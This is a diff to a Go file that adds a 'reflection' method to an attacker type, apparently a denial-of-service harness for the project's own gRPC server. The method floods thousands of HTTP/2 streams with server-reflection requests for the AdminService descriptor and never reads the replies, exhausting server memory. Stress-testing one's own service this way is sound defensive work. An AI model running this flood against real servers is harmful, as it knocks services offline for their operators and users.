@@ -11,6 +11,7 @@ import (
 
 	"golang.org/x/net/http2"
 	"golang.org/x/net/http2/hpack"
+	"google.golang.org/grpc/reflection/grpc_reflection_v1"
 	"google.golang.org/protobuf/proto"
 
 	pb "github.com/waggle-crawl/waggle/proto/waggle/v1"
@@ -154,6 +155,29 @@ func (a *attacker) unread() {
 					panic(err) // the message is wrong
 				}
 				r.call(2*i+1, pb.DispatchService_RenewLease_FullMethodName, message(len(body), body), true)
+			}
+			r.wait()
+		})
+	}
+}
+
+// reflection asks on 5,000 streams for the descriptions of all messages, again and again, and reads none.
+func (a *attacker) reflection() {
+	request, err := proto.Marshal(&grpc_reflection_v1.ServerReflectionRequest{
+		MessageRequest: &grpc_reflection_v1.ServerReflectionRequest_FileContainingSymbol{FileContainingSymbol: "waggle.v1.AdminService"},
+	})
+	if err != nil {
+		panic(err) // the message is wrong
+	}
+	body := bytes.Repeat(message(len(request), request), 10)
+	for range max(10/a.scale, 1) {
+		go forever(func() {
+			r := a.open(0)
+			if r == nil {
+				return
+			}
+			for i := range uint32(500) {
+				r.call(2*i+1, grpc_reflection_v1.ServerReflection_ServerReflectionInfo_FullMethodName, body, false)
 			}
 			r.wait()
 		})
